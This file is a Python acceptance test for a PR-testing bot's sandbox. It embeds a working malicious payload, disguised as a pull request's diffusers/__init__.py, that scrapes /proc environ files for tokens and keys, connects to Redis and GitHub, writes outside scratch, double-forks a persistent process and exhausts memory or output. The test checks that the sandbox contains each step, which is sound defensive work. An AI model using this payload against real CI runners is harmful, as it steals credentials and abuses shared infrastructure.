"""The acceptance attack, end to end: a pull request whose `diffusers/__init__.py` goes after the runner.

It reads every /proc/*/environ and cmdline it can see and its ancestors', connects to Redis and to the GitHub API,
writes outside its scratch directory, double-forks a long sleeper, then, depending on the pipeline it is asked to
run, allocates memory without bound or prints gigabytes. It runs through the real path: a maintainer's
`/drbot contracts` on the fake GitHub, the job in Redis, `ContractRunner` as its own Redis ACL user with the real
bubblewrap sandbox, the result published by the bot. What must hold: no secret of the runner appears in anything
posted to GitHub or written to Redis, no connection succeeds, no file appears outside scratch, no process
outlives the job, memory stays under the job's limit, the PR gets an explicit limit outcome, and the worker
takes the next job."""

from __future__ import annotations

import json
import os
import textwrap
import uuid
from pathlib import Path

import pytest
from harness import REPO

from bot.results import ResultConsumer
from runners.sandbox import Limits, Sandbox
from runners.worker import ContractRunner, RunnerKeys


ROOT = Path(__file__).resolve().parents[2]
MiB = 1 << 20
MARK = f"drbot-pwned-{uuid.uuid4().hex[:8]}"

ATTACK = textwrap.dedent(
    """
    import os, socket, sys, time, urllib.request

    MARK = {mark!r}
    found = []
    # 1. every environment and command line this process can see, its ancestors' first
    pids = [str(os.getppid()), "1"] + [p for p in os.listdir("/proc") if p.isdigit()]
    for pid in pids:
        for name in ("environ", "cmdline"):
            try:
                found.append(open(f"/proc/{{pid}}/{{name}}", "rb").read().decode("utf-8", "replace"))
            except OSError as error:
                found.append(f"/proc/{{pid}}/{{name}}: {{error.strerror}}")
    for host_pid in {host_pids!r}:  # the runner's own pids, as the host numbers them
        try:
            found.append(open(f"/proc/{{host_pid}}/environ", "rb").read().decode("utf-8", "replace"))
        except OSError:
            pass
    found.append(repr(dict(os.environ)))
    # what an attacker wants from it, short enough to survive in the log tail the bot posts
    wanted = ("TOKEN", "SECRET", "KEY", "PASSWORD", "REDIS", "hf_", "ghs_", "aws")
    loot = sorted({{part for text in found for part in text.replace("\\0", " ").split() if any(w in part for w in wanted)}})
    print("LOOT", len(found), "files:", " ".join(loot)[:1500], flush=True)

    # 2. Redis and the GitHub API
    for host, port in (("127.0.0.1", 6379), ("127.0.0.1", {github_port})):
        try:
            s = socket.create_connection((host, port), timeout=2)
            s.sendall(b"SET " + MARK.encode() + b" 1\\r\\n")
            print("CONNECTED", host, port, flush=True)
        except OSError as error:
            print("no connection to", port, type(error).__name__, flush=True)
    try:
        urllib.request.urlopen({github_url!r} + "/repos/{repo}/issues/1/comments", data=b'{{"body": "pwned"}}', timeout=2)
        print("CONNECTED github", flush=True)
    except Exception as error:
        print("no GitHub", type(error).__name__, flush=True)

    # 3. files outside the scratch
    for target in {targets!r}:
        try:
            open(target, "w").write("pwned")
            print("WROTE", target, flush=True)
        except OSError as error:
            print("cannot write", target, error.strerror, flush=True)

    # 4. a sleeper that tries to outlive the job
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.execv("/bin/sh", ["sh", "-c", "sleep 600; : " + MARK])
        os._exit(0)

    # 5. exhaust something
    if "MemoryHog" in " ".join(sys.argv):
        hog = []
        while True:
            hog.append(bytearray(64 << 20))
    if "Chatty" in " ".join(sys.argv):
        line = "x" * 1000 + "\\n"
        while True:
            sys.stdout.write(line * 1000)
    """
)


@pytest.fixture
def canaries(monkeypatch):
    """Secrets in the runner's environment, as a GPU host would hold them."""
    values = {
        "HF_TOKEN": f"hf_canary{uuid.uuid4().hex}",
        "AWS_SECRET_ACCESS_KEY": f"aws{uuid.uuid4().hex}",
        "GITHUB_TOKEN": f"ghs_canary{uuid.uuid4().hex}",
        "REDIS_URL": f"redis://runner:pw{uuid.uuid4().hex}@127.0.0.1:6379/0",
    }
    for name, value in values.items():
        monkeypatch.setenv(name, value)
    return values


def sleepers() -> list[str]:
    out = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            if MARK.encode() in Path(f"/proc/{pid}/cmdline").read_bytes():
                out.append(pid)
        except OSError:
            pass
    return out


async def test_a_malicious_pull_request_gets_nothing_and_a_limit_outcome(
    harness, github, acl_users, canaries, tmp_path
):
    targets = [str(ROOT / "runners" / MARK), f"/tmp/{MARK}", str(tmp_path / MARK), f"/root/{MARK}",
               f"{os.path.dirname(json.__file__)}/{MARK}"]  # fmt: skip
    attack = ATTACK.format(mark=MARK, host_pids=[os.getpid(), os.getppid()], github_port=int(github.url.rsplit(":", 1)[1]),
                           github_url=github.url, repo=REPO, targets=targets)  # fmt: skip
    github.add_repo(REPO, installation_id=1, files={"src/diffusers/__init__.py": "__version__ = '0'\n"}, private=False)
    github.add_pull(REPO, 1, head_files={"src/diffusers/__init__.py": attack})
    github.set_permission(REPO, "maintainer", "write")
    await harness.deliver("pull_request", github.pull_request_payload(REPO, 1, "opened"))
    await harness.run()
    github.advance_clock(2)
    for pipelines in ("MemoryHogPipeline", "ChattyPipeline"):
        await harness.deliver(
            "issue_comment", github.issue_comment_payload(REPO, 1, f"/drbot contracts {pipelines}", "maintainer")
        )
        await harness.run()
    assert await harness.redis.xlen(harness.keys.jobs) == 2

    name, client = await acl_users.runner("gpu")
    limits = Limits(memory_bytes=768 * MiB, output_bytes=4 * MiB, scratch_bytes=64 * MiB)
    runner = ContractRunner(client, RunnerKeys(harness.keys.prefix), sandbox=Sandbox(limits))
    assert await runner.run_burst() == 2  # both jobs handled: the first one's limit did not stop the worker

    dispatcher = harness.worker.handler
    consumer = ResultConsumer(dispatcher.store, dispatcher.client_for)
    assert await consumer.run_burst() == 2
    assert sorted(consumer.outcomes) == ["published: limit", "published: limit"]
    checks = {c["output"]["title"] for c in github.check_runs(REPO) if c["name"] == "drbot contracts"}
    assert checks == {"Stopped at the memory limit", "Stopped at the output limit"}
    (summary,) = [c["body"] for c in github.comments(REPO, 1) if c["body"].startswith("<!-- drbot:summary -->")]
    assert "Contract tests: limit" in summary

    # what the job printed reached the PR (the log tail), but nothing of the runner's
    posted = json.dumps([c.json for c in github.calls if c.json is not None]) + summary
    stored = []
    async for key in harness.redis.scan_iter(match=f"{harness.keys.prefix}*"):
        kind = (await harness.redis.type(key)).decode()
        if kind == "string":
            stored.append((await harness.redis.get(key)).decode("utf-8", "replace"))
        elif kind == "hash":
            stored.append(repr(await harness.redis.hgetall(key)))
        elif kind == "stream":
            stored.append(repr(await harness.redis.xrange(key)))
    stored = "\n".join(stored)
    # the attack ran (its report reached the posted log tail) and found nothing
    memory_check = next(c for c in github.check_runs(REPO) if c["output"]["title"] == "Stopped at the memory limit")
    report = memory_check["output"]["summary"]
    assert "LOOT" in report and "no connection to 6379" in report and "cannot write" in report
    assert f"WROTE /tmp/{MARK}" in report  # inside the sandbox /tmp is its scratch: the host's stays clean
    for secret in (*canaries.values(), "pw" + canaries["REDIS_URL"].split(":pw")[1].split("@")[0]):
        assert secret not in posted and secret not in stored, "a runner secret leaked"
    assert "CONNECTED" not in stored and "CONNECTED" not in posted  # (its /tmp is the sandbox's scratch)
    assert not any("pwned" == c["body"] for c in github.comments(REPO, 1))
    assert await harness.redis.get(MARK) is None
    assert not any(Path(t).exists() for t in targets)
    assert sleepers() == []  # the double-forked sleeper died with its job
